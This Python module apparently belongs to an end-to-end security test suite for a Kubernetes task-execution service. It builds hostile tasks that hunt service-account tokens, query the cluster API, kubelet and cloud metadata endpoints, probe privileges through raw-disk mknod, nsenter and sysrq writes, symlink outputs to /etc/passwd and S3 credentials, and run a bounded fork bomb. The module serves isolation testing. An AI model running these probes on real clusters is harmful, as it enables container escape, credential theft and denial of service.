"""Tasks that attack what they run on."""

from collections.abc import Callable
from typing import Any

TENANT = "e2e-hostile"
CHOICES = {
    "namespace": "kube-system",
    "service_account": "tesk-taskmaster",
    "host_path": "/",
    "host_network": "true",
    "privileged": "true",
    "image_pull_secret": "tesk-s3",
    "read_only_claims": "other:/other",
    "priority_class": "system-node-critical",
    "runtime_class": "other",
    "node_selector": "kubernetes.io/hostname=other",
}
TOKENS = "/var/run/secrets/kubernetes.io/serviceaccount"
LINKED = ("absolute", "relative", "keys", "keys-relative", "keys-by-process", "folder/passwd", "up/etc/passwd")

ASKS = """
exec 2> /dev/null
ask() {
  answer=$(timeout 3 wget -S -O /dev/null --no-check-certificate "$@" 2>&1); code=$?
  status=$(echo "$answer" | grep -m 1 -o 'HTTP/1.1 [0-9]*')
  [ $code = 143 ] && answer='no answer'
  echo "$1 ${status:-$(echo "$answer" | tail -n 1)}"
}
api=https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/api/v1/namespaces
"""
TOKEN = "find / -name '*token*' ! -path '/proc/*' ! -path '/sys/*'; grep -e secret -e token /proc/mounts; echo looked"
API = f"""
for what in secrets configmaps pods; do ask $api/{TENANT}/$what; done
ask $api/{TENANT}/pods --post-data={{}}
ask https://NODE:10250/pods
"""
METADATA = "ask http://169.254.169.254/latest/meta-data/; ask http://169.254.169.254/computeMetadata/v1/"
PRIVILEGES = """
try() { "$@" > /dev/null 2>&1 && echo "did: $*"; }
mkdir /m
try mount -t tmpfs none /m
tail -n +3 /proc/partitions | while read major minor blocks name; do
  mknod /m/$name b $major $minor
  try dd if=/m/$name of=/dev/null bs=1 count=1
done
for space in m u i n U; do try unshare -$space true; done
try nsenter -t 1 -n true
try hostname other
try dmesg
try ip link add other type dummy
try renice -n -5 1
for file in /proc/sys/kernel/panic /proc/sysrq-trigger /sys/fs/cgroup/memory/memory.limit_in_bytes \
  /sys/fs/cgroup/memory.max; do [ -e $file ] && try sh -c "echo h > $file"; done
grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status
echo the first process is $(cat /proc/1/comm)
"""
LINKS = """
cd /out
rm -rf folder up
echo mine > mine
ln -s /etc/passwd absolute
ln -s ../../../../../etc/passwd relative
ln -s /tesk/secrets/s3/credentials keys
ln -s ../../../../../tesk/secrets/s3/credentials keys-relative
ln -s /proc/self/root/tesk/secrets/s3/credentials keys-by-process
ln -s /etc folder
ln -s / root
ln -s .. up
rm /log/stdout
ln -s /tesk/secrets/s3/credentials /log/stdout
"""
BOMB = "b() { if [ $1 = 0 ]; then sleep 5; else b $(($1 - 1)) & b $(($1 - 1)) & wait; fi; }; b 11"
"""It would be 4,094 processes, and no more: where nothing contains it, the test fails and the machine lives."""
BOMBS = 4094


def documents(shell: Callable[..., dict[str, Any]], bucket: str, node: str) -> dict[str, dict[str, Any]]:
    """By what each attacks; `node` is the address of the one that they run on."""
    return {
        "choices": {
            "executors": [shell(f"sleep 25; ls -A {TOKENS}")],
            "resources": {"backend_parameters": CHOICES},
            "volumes": ["/v", TOKENS],
        },
        "memory": {"executors": [shell("exec tail /dev/zero")]},
        "disk": {"executors": [shell("head -c 200000000 /dev/zero > /fill; sleep 80")]},
        "token": {"executors": [shell(TOKEN)]},
        "api": {"executors": [shell(ASKS + API.replace("NODE", node))]},
        "metadata": {"executors": [shell(ASKS + METADATA)]},
        "metadata by an input": {
            "inputs": [{"path": "/in/x", "url": "http://169.254.169.254/latest/meta-data/"}],
            "executors": [shell("cat /in/x")],
        },
        "privileges": {"executors": [shell(PRIVILEGES)]},
        "links": {
            "executors": [shell(LINKS, stdout="/log/stdout")],
            "outputs": [
                *({"path": f"/out/{name}", "url": f"s3://{bucket}/links/one/{i}"} for i, name in enumerate(LINKED)),
                {"path": "/out", "url": f"s3://{bucket}/links/folder", "type": "DIRECTORY"},
                {"path": "/out/*", "path_prefix": "/out", "url": f"s3://{bucket}/links/wild"},
                {"path": "/out/folder/*", "path_prefix": "/out", "url": f"s3://{bucket}/links/wilder"},
            ],
        },
    }
